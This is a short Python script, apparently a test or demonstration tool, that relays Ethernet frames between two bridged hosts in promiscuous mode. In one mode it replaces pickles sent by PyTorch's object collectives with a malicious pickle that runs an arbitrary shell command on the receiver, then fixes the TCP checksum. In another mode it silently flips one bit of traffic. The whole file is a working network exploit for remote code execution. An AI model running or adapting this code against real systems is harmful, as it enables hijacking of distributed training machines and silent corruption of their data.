"""man_on_the_cable.py PORT PORT MODE COMMAND: copies Ethernet frames between two hosts' cables, and
changes what it likes. Runs in the namespace of their bridge; says ``copying`` when it does.

MODE ``rewrite``: a pickle that torch's object collectives sent becomes one that runs COMMAND when
loaded, with TCP's checksum made right. MODE ``flip``: one bit of one frame is changed, after
100,000 bytes in full frames. Ends at a line on stdin, and says how many frames it changed.
"""

from __future__ import annotations

import fcntl
import re
import select
import socket
import struct
import sys
from collections.abc import Callable

PICKLE = re.compile(rb"\x80[\x04\x05]\x95..\0\0\0\0\0\0", re.DOTALL)
"""How a pickle of less than 64 KiB begins: protocol, frame, its length."""
ETHERNET, IPV4, TCP = 14, 0x0800, 6


def internet_checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def payload_at(frame: bytes) -> int:
    """Where the bytes of TCP begin in an Ethernet frame; 0 if it has none."""
    if len(frame) < ETHERNET + 40 or struct.unpack_from("!H", frame, 12)[0] != IPV4:
        return 0
    if frame[ETHERNET + 9] != TCP:
        return 0
    begin = ETHERNET + 4 * (frame[ETHERNET] & 15)
    return begin + 4 * (frame[begin + 12] >> 4)


def with_checksum(frame: bytearray) -> bytes:
    begin = ETHERNET + 4 * (frame[ETHERNET] & 15)
    end = ETHERNET + struct.unpack_from("!H", frame, ETHERNET + 2)[0]
    frame[begin + 16 : begin + 18] = b"\0\0"
    addresses = bytes(frame[ETHERNET + 12 : ETHERNET + 20])
    pseudo = addresses + struct.pack("!BBH", 0, TCP, end - begin)
    struct.pack_into("!H", frame, begin + 16, internet_checksum(pseudo + bytes(frame[begin:end])))
    return bytes(frame)


def rewritten(frame: bytes, command: str) -> bytes:
    """The frame with a pickle of the attacker in it, or as it was."""
    begin = payload_at(frame)
    pickle = PICKLE.search(frame, begin) if begin else None
    evil = f"cos\nsystem\n(S'{command}'\ntR.".encode()  # what follows its end is not read
    if pickle is None or pickle.start() + len(evil) > len(frame):
        return frame
    changed = bytearray(frame)
    changed[pickle.start() : pickle.start() + len(evil)] = evil
    return with_checksum(changed)


seen = 0


def flipped(frame: bytes, command: str) -> bytes:
    global seen
    begin = payload_at(frame)
    if begin and len(frame) - begin >= 1400:
        seen += len(frame) - begin
    if seen < 100_000:
        return frame
    changed = bytearray(frame)
    seen = -1 << 60
    changed[begin + 700] ^= 0x10
    return with_checksum(changed)


def take(port: str) -> socket.socket:
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.bind((port, 0))
    request = struct.pack("16sh", port.encode(), 0)
    flags = struct.unpack("16sh", fcntl.ioctl(sock, 0x8913, request))[1]
    fcntl.ioctl(sock, 0x8914, struct.pack("16sh", port.encode(), flags | 0x100))  # promiscuous
    return sock


def main() -> None:
    left, right, mode, command = sys.argv[1:]
    change: Callable[[bytes, str], bytes] = {"rewrite": rewritten, "flip": flipped}[mode]
    cables = take(left), take(right)
    others = dict(zip(cables, reversed(cables), strict=True))
    num_changed = 0
    print("copying", flush=True)
    while True:
        for ready in select.select([*cables, sys.stdin], [], [])[0]:
            if ready is sys.stdin:
                print(f"changed {num_changed}", flush=True)
                return
            frame, where = ready.recvfrom(65536)
            if where[2] == socket.PACKET_OUTGOING:
                continue
            sent = change(frame, command)
            num_changed += sent != frame
            others[ready].send(sent)


main()
